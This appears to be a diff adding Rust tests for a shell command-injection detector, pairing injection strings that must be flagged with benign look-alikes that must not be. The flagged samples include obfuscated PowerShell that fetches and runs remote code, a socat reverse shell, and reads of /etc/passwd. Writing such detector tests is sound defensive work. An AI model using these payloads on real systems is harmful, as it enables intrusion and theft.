@@ -1063,3 +1063,279 @@ fn capitalised_globs_match_no_program() {
         assert!(hit(v), "missed {v:?}");
     }
 }
+
+#[test]
+fn cmd_variables_and_substring_expansions() {
+    for v in [
+        "x & %COMSPEC% /c whoami",
+        "127.0.0.1 | %ComSpec%",
+        "%PROGRAMFILES:~10,1%",
+        "ping%PROGRAMFILES:~10,1%127.0.0.1",
+        "c%COMSPEC:~-7,1%d /c dir",
+        "x&%ProgramFiles(x86):~-3%",
+        "%25PROGRAMFILES%3A~10%2C1%25",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        // to cmd a `;` is text: this extends a list
+        "C:\\>set PATH=C:\\Program Files\\Python 3.9;%PATH%\nC:\\>python",
+        "set PATH=%PATH%;C:\\bin",
+        "%USERPROFILE%\\Documents",
+        "100%: ~10,1%",
+        "Discount 50% :~ 10%",
+        "%d:~%",
+        "50% off; %PATH% stays",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn quote_breakouts_that_rebalance_the_line() {
+    for v in [
+        "hello'; date #",
+        "hello' | groups; '",
+        "report.pdf\"\ngroups \"",
+        "127.0.0.1\"\nsleep 10 \"",
+        "x' && last #",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "It's 'fine'; last one",
+        "He said 'no'; date was cancelled",
+        "Rock 'n' roll; groups welcome",
+        "Tom's diner | last call",
+        "I'd say \"yes\" & groups",
+        "\"Hello\"; date night",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn bare_printers_after_an_address_or_a_leading_line_break() {
+    for v in [
+        "8.8.8.8; set",
+        "127.0.0.1 & groups",
+        "example.org | last",
+        "\ndate",
+        "%0agroups",
+        "\r\nver",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "amazon.com & more",
+        "8.8.8.8 | more",
+        "Server 10.0.0.1; last checked today",
+        "john@example.com; date",
+        "10.0.0.1 and more",
+        "\nMore info below",
+        "\nmore",
+        "\nDate: 2024-01-01",
+        "\nset up your account",
+        "\necho chamber",
+        "\nlast name",
+        "\ntime",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn powershell_escapes_and_call_operators() {
+    for v in [
+        "I`E`X (iwr http://a.example/x)",
+        "x; Invoke-`Expression whoami",
+        "x | &(gcm i*x) 'whoami'",
+        "&(Get-Command I*X) 'id'",
+        "x; .('ie'+'x') 'whoami'",
+        "x & & ('who'+'ami')",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "R&(D) department",
+        "Apple & (Orange)",
+        "f(x) & (g)",
+        "'hello' + 'world'",
+        "(\"a\" + \"b\")",
+        "AES (GCM) & (CBC)",
+        "mode: (gcm 128)",
+        "Use `sort` here",
+        "the `cat` command",
+        "x`y`z",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn command_syntax_of_windows_tools_socat_and_timeout() {
+    for v in [
+        "whoami /priv",
+        "ipconfig /flushdns",
+        "wmic process list",
+        "wmic /node:10.0.0.2 os get caption",
+        "socat tcp:10.0.0.1:4444 exec:sh",
+        "start calc.exe",
+        "timeout 5 ls",
+        "127.0.0.1; timeout 5 id",
+        "eval 'id'",
+        "f+&+dir",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Whoami / the song",
+        "wmic is deprecated",
+        "wmic process list is deprecated",
+        "socat is a relay",
+        "start the car",
+        "start here.exe now",
+        "timeout 5 seconds",
+        "timeout 30 more minutes",
+        "Set a timeout 5 s",
+        "eval the expression",
+        "salt+&+pepper",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn unicode_escaped_values_are_decoded() {
+    for v in [
+        "\\u003b\\u0020id",
+        "127.0.0.1\\u007cwhoami",
+        "\\u00250Aid\\u00250A",
+        "x\\u0026\\u0026 cat /etc/passwd",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "\\u0048\\u0065\\u006c\\u006c\\u006f",
+        "caf\\u00e9 & bar",
+        "\\u0041T&T",
+        "name\\u003a John; age 30",
+        "{\"text\": \"\\u003cb\\u003ehi\\u003c/b\\u003e\"}",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn nul_ends_a_word_and_powershell_types_and_cmdlets() {
+    for v in [
+        "www.example.com&whoami%00",
+        "abc123|id%00",
+        "x;who``ami\0",
+        "[Environment]::UserName",
+        "x; [System.Diagnostics.Process]::Start('calc')",
+        "x$([Environment]::UserName)",
+        "0; Test-Connection 10.0.0.1",
+        "x && Get-LocalUser",
+        "abc | dig +short a.example",
+        "x\r\nhost a.example #",
+        "expr 91 \\* 7",
+        "rundll32.exe shell32.dll,ShellExec_RunDLL calc",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "name\0",
+        "hello world\0",
+        "[fe80::1]:8080",
+        "http://[2001:db8::1]/",
+        "std::vector<int>::iterator",
+        "see [docs]:: below",
+        "x = a[i]::b",
+        "Test connection speed",
+        "dig +short is handy for scripts",
+        "expr is short for expression",
+        "rundll32 is a Windows tool",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn programs_under_cmd_directory_variables_and_get_content() {
+    for v in [
+        "x&%SystemRoot%\\system32\\cmd.exe /c dir",
+        "%SystemRoot%\\system32\\cmd.exe /c dir",
+        "null\r%WINDIR%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
+        "test\ngc /etc/passwd",
+        "x; gc C:\\Windows\\win.ini",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "%USERPROFILE%\\Documents\\report.docx",
+        "Open %APPDATA%\\Roaming\\app",
+        "%TEMP%\\setup.log",
+        "Java GC; tuning tips",
+        "young gc | old gc",
+        "v2 | gc pauses",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn form_encoding_and_references_to_percent_escapes() {
+    for v in [
+        "system%28%27curl+https%3A%2F%2Fa.example%2Fx.txt%27%29%3B",
+        "IF++++%25ERRORLEVEL%25+GEQ+2+++echo+test",
+        "if+%2Fi+a%3D%3Db+foo",
+        "IF+%2FI+NOT+item1%3D%3Ditem2+++CMD",
+        "&#37;0A&#47;usr&#47;bin&#47;id&#37;0A",
+        "&#37;0a id &#37;0a",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Tom+%26+Jerry",
+        "rock+%7C+roll",
+        "50%25+off%3B+more",
+        "cats+%26+dogs+%3B+birds",
+        "I+came%3B+I+saw%3B+I+left",
+        "Sleep+5+hours+%26+more",
+        "date%3A+2024-01-01%3B+time%3A+10%3A00",
+        "&#37;20hello&#37;20",
+        "Q&amp;A &#37; done",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn escaped_leading_line_breaks_and_paths_before_bare_printers() {
+    for v in ["\\nhostname", "\\r\\nver", "/tmp/a & set", "/var/www; last"] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in ["\\nmore", "/ & more", "/home | sort", "\\n\\nHello"] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn powershell_aliases_to_code_execution() {
+    for v in [
+        "sal x iex; x 'whoami'",
+        "127.0.0.1 | sal x iex; x 'whoami'",
+        "x; nal run Invoke-Expression",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "sal y pimienta",
+        "sal de mesa; agua",
+        "nal and sal",
+        "Sal x iex-like names",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
